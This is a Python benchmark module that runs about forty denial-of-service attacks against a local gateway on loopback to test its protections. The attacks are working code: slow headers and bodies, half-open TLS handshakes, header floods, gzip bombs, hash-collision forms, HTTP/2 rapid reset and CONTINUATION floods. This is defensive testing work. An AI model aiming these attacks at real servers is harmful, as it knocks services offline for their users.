"""Attackers: what one abuser, or many, can do to the gateway to keep others from being served.

    python -m benchmarks.protection.attackers NAME PORT FORECAST EVENT SECONDS

runs one attack of `ATTACKS` against the gateway at this port of loopback, and at its end prints a
JSON object of what was done and what came back, counted, and the processor's time that it took.
FORECAST and EVENT are files with a benign JSON body each. The standard library is enough; uvloop is
taken where it is installed, since an attacker runs on the cores that it attacks.
"""

import asyncio
import gzip
import itertools
import json
import os
import random
import re
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from benchmarks.load.clients import Connection, MalformedResponse, kind_of
from benchmarks.load.job import raise_open_files
from benchmarks.protection import http2_frames as h2

NAME = "localhost"
MOST_A_SECOND = 1500
"""Requests: what one abuser's line and machine give, and two cores shared with the victim allow."""
CONNECTING_A_SECOND = 400
"""TLS handshakes; each costs the attacker more than the gateway."""
MOST_FILES_SPARED = 500
NICENESS = 10
HTTP1, HTTP2 = ("http/1.1",), ("h2",)


@dataclass
class Attack:
    """An attack under way."""

    port: int
    forecast: bytes
    """A benign body of /api/forecast, and of the page's event."""
    event: bytes
    seconds: float
    tally: Counter[str] = field(default_factory=Counter)
    ends: float = 0.0

    @property
    def left(self) -> float:
        """Seconds until its end."""
        return self.ends - time.monotonic()


def main() -> int:
    """Attack, and tell what came of it."""
    name, port, forecast, event, seconds = sys.argv[1:6]
    os.nice(NICENESS)
    raise_open_files()
    attack = Attack(
        int(port), Path(forecast).read_bytes(), Path(event).read_bytes(), float(seconds)
    )
    _run(_for_a_while(attack, ATTACKS[name]))
    print(json.dumps({"cpu": round(time.process_time(), 2), "seen": dict(attack.tally)}))
    return 0


async def _for_a_while(attack: Attack, act: Callable[[Attack], Awaitable[None]]) -> None:
    # A gateway that hangs up while something is being sent is no news.
    asyncio.get_running_loop().set_exception_handler(lambda *_: None)
    attack.ends = time.monotonic() + attack.seconds
    with suppress(TimeoutError):
        async with asyncio.timeout(attack.seconds):
            await act(attack)
            await asyncio.sleep(max(0.0, attack.left))


def _run(work: Coroutine[Any, Any, None]) -> None:
    try:
        import uvloop  # type: ignore[import-not-found, unused-ignore]
    except ImportError:
        asyncio.run(work)
    else:
        uvloop.run(work)


# Who attacks.


def one() -> Iterator[str]:
    """The same address again and again."""
    return itertools.repeat("127.66.0.1")


def many(count: int) -> Iterator[str]:
    """So many addresses in turn."""
    return itertools.cycle([f"127.66.{at >> 8}.{at & 255}" for at in range(1, count + 1)])


# What is common to attacks that hold connections, and to those that send requests.

Act = Callable[[Attack, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def hold(  # noqa: PLR0913 - what such an attack is
    attack: Attack,
    sources: Iterator[str],
    act: Act,
    *,
    count: int = 4000,
    protocol: tuple[str, ...] | None = HTTP1,
    rate: float = CONNECTING_A_SECOND,
    window: int = 0,
) -> None:
    """Open `count` connections, do something on each, and open another for each that is lost."""
    free = asyncio.Semaphore(count)

    async def live(source: str) -> None:
        try:
            reader, writer = await _connect(attack, source, protocol, window)
        except (OSError, EOFError):
            attack.tally["not opened"] += 1
            return
        attack.tally["opened"] += 1
        try:
            await act(attack, reader, writer)
        except (OSError, EOFError):
            pass
        finally:
            if attack.left > 0.1:
                attack.tally["closed by the gateway"] += 1
            writer.transport.abort()

    async with asyncio.TaskGroup() as group:
        for at, source in zip(_pace(rate, attack), sources, strict=False):
            await at
            await free.acquire()
            group.create_task(live(source)).add_done_callback(lambda _: free.release())


async def flood(
    attack: Attack,
    sources: Iterator[str],
    requests: Iterator[bytes],
    *,
    rate: float = MOST_A_SECOND,
    connections: int = 32,
) -> None:
    """Send requests over connections that are opened again where they are closed."""
    turns = _pace(rate, attack)

    async def live(source: str) -> None:
        connection: Connection | None = None
        for turn in turns:
            await turn
            try:
                async with asyncio.timeout(10):
                    if connection is None or not connection.is_open:
                        connection = await _connection(attack, source)
                    attack.tally["sent"] += 1
                    answer = await connection.send(next(requests))
                attack.tally[str(answer.status)] += 1
                if answer.closes:
                    connection.close()
            except (OSError, MalformedResponse) as error:
                attack.tally[kind_of(error)] += 1
                if connection is not None:
                    connection.close()

    async with asyncio.TaskGroup() as group:
        for source in itertools.islice(sources, connections):
            group.create_task(live(source))


def _pace(rate: float, attack: Attack) -> Iterator[Awaitable[None]]:
    """Turns, so many a second however many wait for one, until the attack is over."""
    began = time.monotonic()
    for number in itertools.count():
        if attack.left <= 0:
            return
        yield asyncio.sleep(max(0.0, began + number / rate - time.monotonic()))


async def _connect(
    attack: Attack, source: str, protocol: tuple[str, ...] | None, window: int = 0
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection; without TLS where no protocol is named.

    Args:
        attack: whom it is for.
        source: the address that it comes from.
        protocol: the one to speak over TLS.
        window: bytes that the kernel takes in unread; 0 for as many as it likes.
    """
    plain = socket.socket()
    plain.setblocking(False)
    try:
        if window:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        plain.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", attack.port))
        return await asyncio.open_connection(
            sock=plain,
            ssl=trusting_anybody(protocol) if protocol else None,
            server_hostname=NAME if protocol else None,
            limit=window or 65536,
        )
    except BaseException:
        plain.close()
        raise


async def _connection(attack: Attack, source: str) -> Connection:
    _, connection = await asyncio.get_running_loop().create_connection(
        Connection,
        "127.0.0.1",
        attack.port,
        ssl=trusting_anybody(HTTP1),
        server_hostname=NAME,
        local_addr=(source, 0),
    )
    return connection


_contexts: dict[tuple[str, ...], ssl.SSLContext] = {}


def trusting_anybody(protocols: tuple[str, ...]) -> ssl.SSLContext:
    """What an attacker uses, who does not care whom it talks to."""
    if protocols not in _contexts:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(list(protocols))
        _contexts[protocols] = context
    return _contexts[protocols]


def request(
    path: str, body: bytes = b"", method: str = "", headers: str = "", kind: str = ""
) -> bytes:
    """A whole request as a program sends it."""
    method = method or ("POST" if body else "GET")
    kind = kind or "application/json"
    about = f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n" if body else ""
    head = f"{method} {path} HTTP/1.1\r\nHost: {NAME}\r\nUser-Agent: curl/8.5.0\r\n"
    return f"{head}Accept: */*\r\n{about}{headers}\r\n".encode() + body


def form(parts: dict[str, bytes]) -> tuple[bytes, str]:
    """A form with a file a part, and its content type."""
    content = b"".join(
        b'--x\r\nContent-Disposition: form-data; name="files"; filename="%b"\r\n'
        b"Content-Type: text/csv\r\n\r\n%b\r\n" % (name.encode(), part)
        for name, part in parts.items()
    )
    return content + b"--x--\r\n", "multipart/form-data; boundary=x"


# Connections that are held.

UPLOAD = "/gradio_api/upload?upload_id=x"
HEAD = f"POST /api/forecast HTTP/1.1\r\nHost: {NAME}\r\n".encode()


async def _wait(_: Attack, reader: asyncio.StreamReader, __: asyncio.StreamWriter) -> None:
    while await reader.read(65536):
        pass


async def _slow_head(
    attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    async def drip() -> None:
        writer.write(HEAD)
        for number in itertools.count():
            await asyncio.sleep(3)
            writer.write(b"X-%d: a\r\n" % number)
            await writer.drain()

    await _until_closed(attack, reader, drip())


async def _until_closed(
    attack: Attack, reader: asyncio.StreamReader, drip: Awaitable[None]
) -> None:
    """Send slowly until the gateway has closed its side."""
    sending = asyncio.ensure_future(drip)
    try:
        answer = await reader.read(65536)
        if answer.startswith(b"HTTP/1.1 "):
            attack.tally[answer[9:12].decode()] += 1
        while answer:
            answer = await reader.read(65536)
    finally:
        sending.cancel()
        with suppress(asyncio.CancelledError, OSError):
            await sending


def _slow_body(path: str, kind: str = "application/json", size: int = 4000) -> Act:
    head = request(path, b"x" * size, kind=kind)[:-size]

    async def act(
        attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        async def drip() -> None:
            writer.write(head)
            while True:
                writer.write(b"1")
                await writer.drain()
                await asyncio.sleep(1)

        await _until_closed(attack, reader, drip())

    return act


async def _half_a_handshake(
    attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    outgoing = ssl.MemoryBIO()
    greeting = trusting_anybody(HTTP2).wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=NAME)
    with suppress(ssl.SSLWantReadError):
        greeting.do_handshake()
    writer.write(outgoing.read())
    await _wait(attack, reader, writer)


async def _plain_head(
    attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    writer.write(request("/"))
    answer = await reader.read(4096)
    attack.tally[answer[9:12].decode(errors="replace") or "no answer"] += 1


async def _read_slowly(
    attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    # One document after another, of which hardly anything is taken in.
    writer.write(request("/api/example.csv") * 20)
    while True:
        await asyncio.sleep(2)
        if not await reader.read(10):
            return


async def slow_heads(attack: Attack) -> None:
    """A header line every few seconds, from one address."""
    await hold(attack, one(), _slow_head)


async def slow_heads_of_many(attack: Attack) -> None:
    """The same from 1,000 addresses."""
    await hold(attack, many(1000), _slow_head)


async def silent_connections(attack: Attack) -> None:
    """As many connections as a process may have, and not a byte on them."""
    most = raise_open_files() - MOST_FILES_SPARED
    await hold(attack, one(), _wait, count=most, protocol=None, rate=3000)


async def half_handshakes(attack: Attack) -> None:
    """Handshakes begun and left."""
    await hold(attack, one(), _half_a_handshake, count=8000, protocol=None, rate=1000)


async def idle_connections(attack: Attack) -> None:
    """Nothing after the handshake."""
    await hold(attack, one(), _wait, count=8000)


async def idle_connections_of_many(attack: Attack) -> None:
    """Nothing after the handshake, from 1,000 addresses."""
    await hold(attack, many(1000), _wait, count=8000)


async def plain_to_tls(attack: Attack) -> None:
    """HTTP without TLS, a connection each."""
    await hold(attack, one(), _plain_head, count=200, protocol=None, rate=MOST_A_SECOND)


async def slow_forecasts(attack: Attack) -> None:
    """A byte of a forecast's body a second."""
    await hold(attack, one(), _slow_body("/api/forecast"), count=2000)


async def slow_events(attack: Attack) -> None:
    """A byte of an event's body a second."""
    await hold(attack, one(), _slow_body("/gradio_api/run/predict"), count=2000)


async def slow_uploads(attack: Attack) -> None:
    """A byte of an upload a second, from 200 addresses."""
    kind = "multipart/form-data; boundary=x"
    act = _slow_body(UPLOAD, kind, 20_000_000)
    await hold(attack, many(200), act, count=2000)


async def slow_reading(attack: Attack) -> None:
    """Answers asked for and not taken in."""
    await hold(attack, many(5), _read_slowly, count=2000, window=2048)


# Heads that are too much.


def _lines(count: int, length: int) -> str:
    return "".join(f"X-{at}: {'a' * length}\r\n" for at in range(count))


async def many_headers(attack: Attack) -> None:
    """Two hundred header fields a request."""
    sent = request("/api/forecast", attack.forecast, headers=_lines(200, 60))
    await flood(attack, one(), itertools.repeat(sent))


async def large_headers(attack: Attack) -> None:
    """Four header lines of nearly 8 KB, and a fifth."""
    sent = request("/api/forecast", attack.forecast, headers=_lines(5, 8000))
    await flood(attack, one(), itertools.repeat(sent), rate=500)


async def endless_headers(attack: Attack) -> None:
    """Header lines as fast as they are taken."""

    async def act(
        attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        async def pour() -> None:
            writer.write(HEAD)
            while True:
                writer.write(b"X-A: b\r\n" * 50)
                await writer.drain()
                await asyncio.sleep(0.01)

        await _until_closed(attack, reader, pour())

    await hold(attack, one(), act, count=200, rate=200)


async def many_cookies(attack: Attack) -> None:
    """Twenty thousand cookies in the four lines that fit."""
    line = "Cookie: " + "; ".join("a=" for _ in range(1990)) + "\r\n"
    sent = request("/api/forecast", attack.forecast, headers=line * 3)
    await flood(attack, one(), itertools.repeat(sent), rate=500)


# One client at fifty times its limit, or as fast as it can.


async def forecasts(attack: Attack) -> None:
    """Benign forecasts."""
    sent = request("/api/forecast", attack.forecast)
    await flood(attack, one(), itertools.repeat(sent), rate=1000)


async def forecasts_with_false_keys(attack: Attack) -> None:
    """Benign forecasts, each with another key that was made up."""

    def sent() -> Iterator[bytes]:
        while True:
            key = f"Authorization: Bearer kalecast_x_{random.getrandbits(170):043x}\r\n"
            yield request("/api/forecast", attack.forecast, headers=key)

    await flood(attack, one(), sent())


async def events(attack: Attack) -> None:
    """The page's button."""
    sent = request("/gradio_api/run/predict", attack.event)
    await flood(attack, one(), itertools.repeat(sent), rate=250)


async def documents(attack: Attack) -> None:
    """The page, each time with another query."""
    requests = (request(f"/?ref={number}") for number in itertools.count())
    await flood(attack, one(), requests, rate=250)


async def uploads(attack: Attack) -> None:
    """Files of 20 MB."""
    content, kind = form({"a.csv": b"unique_id,ds,y\n" + b"1,2026-01-01,3\n" * 1_330_000})
    sent = request(UPLOAD, content, kind=kind)
    await flood(attack, one(), itertools.repeat(sent), rate=50, connections=8)


async def unlisted(attack: Attack) -> None:
    """Addresses that do not exist."""
    requests = (request(f"/wp-admin/{number}.php") for number in itertools.count())
    await flood(attack, one(), requests)


async def assets(attack: Attack) -> None:
    """Files of the page that do not exist, under benign names."""
    requests = (request(f"/assets/a{number}.js") for number in itertools.count())
    await flood(attack, one(), requests)


async def packed_assets(attack: Attack) -> None:
    """The page's largest script, packed anew for each request unless the gateway keeps it."""
    connection = await _connection(attack, "127.66.0.2")
    document = (await connection.send(request("/"))).body.decode()
    names = re.findall(r"assets/[\w.-]+\.js", document)
    sent = request(f"/{names[0]}", headers="Accept-Encoding: gzip\r\n")
    await flood(attack, one(), itertools.repeat(sent), rate=500)


# What costs signatures most.


async def open_heads(attack: Attack) -> None:
    """Benign forecasts with a header that is not listed, so that all signatures look."""
    sent = request("/api/forecast", attack.forecast, headers=_lines(1, 400))
    await flood(attack, one(), itertools.repeat(sent), rate=1000)


async def open_heads_with_false_keys(attack: Attack) -> None:
    """The same, each with a made-up key."""

    def sent() -> Iterator[bytes]:
        while True:
            key = f"Authorization: Bearer kalecast_x_{random.getrandbits(170):043x}\r\nX-A: b\r\n"
            yield request("/api/forecast", attack.forecast, headers=key)

    await flood(attack, one(), sent(), rate=1000)


async def open_assets(attack: Attack) -> None:
    """Files of the page with a header that is not listed."""
    sent = request("/favicon.ico", headers=_lines(20, 300))
    await flood(attack, one(), itertools.repeat(sent))


async def long_words(attack: Attack) -> None:
    """Pasted rows of nearly 64 KB, made of words."""
    sent = request("/gradio_api/run/predict", _pasted(attack, "select from (the) 'words' " * 2400))
    await flood(attack, one(), itertools.repeat(sent), rate=250)


def _pasted(attack: Attack, text: str) -> bytes:
    event = json.loads(attack.event)
    event["data"][4] = text
    return json.dumps(event).encode()


async def many_arguments(attack: Attack) -> None:
    """JSON of a thousand arguments."""
    content = json.dumps({"history": "1,2,3", "x": ["select a"] * 990}).encode()
    sent = request("/api/forecast", content)
    await flood(attack, one(), itertools.repeat(sent), rate=1000)


async def deep_json(attack: Attack) -> None:
    """JSON of 100,000 levels."""
    sent = request("/api/forecast", b"[" * 100_000 + b"]" * 100_000)
    await flood(attack, one(), itertools.repeat(sent), rate=200)


async def many_fields(attack: Attack) -> None:
    """A form of 40,000 parameters, made to collide in a poor hash."""
    content = "&".join("".join(p) for p in itertools.product(("Aa", "BB"), repeat=15)).encode()
    sent = request("/api/forecast", content[:500_000], kind="application/x-www-form-urlencoded")
    await flood(attack, one(), itertools.repeat(sent), rate=200)


async def many_parts(attack: Attack) -> None:
    """A form of 5,000 files."""
    content, kind = form({f"a{number}.csv": b"1" for number in range(5000)})
    sent = request(UPLOAD, content, kind=kind)
    await flood(attack, one(), itertools.repeat(sent), rate=50)


async def large_tokens(attack: Attack) -> None:
    """Events with an upload's token of 4 MB."""
    event = json.loads(attack.event)
    event["data"][0] = "Your file"
    event["data"][2] = {"path": "kalecast-table-1." + "A" * 4_000_000}
    sent = request("/gradio_api/run/predict", json.dumps(event).encode())
    await flood(attack, one(), itertools.repeat(sent), rate=50, connections=8)


async def bombs(attack: Attack) -> None:
    """Bodies of 400 MB that arrive as 400 KB."""
    content = gzip.compress(b"1," * 200_000_000, 9)
    sent = request("/api/forecast", content, headers="Content-Encoding: gzip\r\n")
    await flood(attack, one(), itertools.repeat(sent), rate=100)


async def promised_bodies(attack: Attack) -> None:
    """A length of a terabyte, and nothing after it."""
    sent = request(UPLOAD, headers="Content-Length: 1099511627776\r\n", method="POST")
    await flood(attack, one(), itertools.repeat(sent), rate=500)


async def ranges(attack: Attack) -> None:
    """A thousand overlapping ranges of a file."""
    line = "Range: bytes=" + ",".join(f"0-{at}" for at in range(1000)) + "\r\n"
    sent = request("/favicon.ico", headers=line)
    await flood(attack, one(), itertools.repeat(sent))


# HTTP/2.


def _streams(make: Callable[[int], bytes], rate: float, batch: int = 50) -> Act:
    """Send what `make` makes of each stream's number, without waiting for anything."""

    async def act(
        attack: Attack, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        async def pour() -> None:
            writer.write(h2.OPENING)
            for number in itertools.count(0, batch):
                writer.write(b"".join(make(1 + 2 * (number + at)) for at in range(batch)))
                attack.tally["sent"] += batch
                await writer.drain()
                await asyncio.sleep(batch / rate)

        sending = asyncio.ensure_future(pour())
        try:
            while await reader.read(65536):
                pass
        finally:
            sending.cancel()

    return act


GET = h2.head("GET", "/", NAME)
READ = h2.head("GET", "/favicon.ico", NAME)


async def rapid_reset(attack: Attack) -> None:
    """Streams opened and reset at once (CVE-2023-44487)."""
    make = lambda stream: h2.opened(stream, READ) + h2.reset(stream)  # noqa: E731
    await hold(attack, one(), _streams(make, 2000), count=5, protocol=HTTP2)


async def many_streams(attack: Attack) -> None:
    """Streams opened and left to the gateway."""
    make = lambda stream: h2.opened(stream, READ)  # noqa: E731
    await hold(attack, one(), _streams(make, 300), count=5, protocol=HTTP2)


async def unfinished_streams(attack: Attack) -> None:
    """Forecasts over HTTP/2 whose bodies never end."""
    sent = h2.head("POST", "/api/forecast", NAME, [("content-type", "application/json")])
    make = lambda stream: h2.opened(stream, sent, ends=False)  # noqa: E731
    await hold(attack, one(), _streams(make, 60, 5), count=50, protocol=HTTP2)


async def continuations(attack: Attack) -> None:
    """A head that goes on for ever (CONTINUATION flood)."""
    field_ = h2.field("x-a", "b" * 400)

    def make(stream: int) -> bytes:
        first = h2.opened(1, GET, whole=False) if stream == 1 else b""
        return first + h2.continued(1, field_)

    await hold(attack, one(), _streams(make, 400), count=5, protocol=HTTP2)


async def settings_and_pings(attack: Attack) -> None:
    """Frames that each ask for an answer."""
    make = lambda _: h2.SETTINGS + h2.PING  # noqa: E731
    await hold(attack, one(), _streams(make, 3000), count=5, protocol=HTTP2)


# Many, each within its limit: this is capacity, and no abuser.


async def five_hundred_customers(attack: Attack) -> None:
    """Five hundred addresses that ask for what costs most and is allowed, all at their limit."""
    sent = request("/api/forecast", attack.forecast, headers=_lines(1, 400))
    await flood(attack, many(500), itertools.repeat(sent), connections=500)


ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    act.__name__: act
    for act in (
        *(slow_heads, slow_heads_of_many, silent_connections, half_handshakes),
        *(idle_connections, idle_connections_of_many, plain_to_tls),
        *(slow_forecasts, slow_events, slow_uploads, slow_reading),
        *(many_headers, large_headers, endless_headers, many_cookies),
        *(forecasts, forecasts_with_false_keys, events, documents, uploads, unlisted, assets),
        packed_assets,
        *(open_heads, open_heads_with_false_keys, open_assets, long_words, many_arguments),
        *(deep_json, many_fields, many_parts, large_tokens, bombs, promised_bodies, ranges),
        *(rapid_reset, many_streams, unfinished_streams, continuations, settings_and_pings),
        five_hundred_customers,
    )
}

if __name__ == "__main__":
    sys.exit(main())
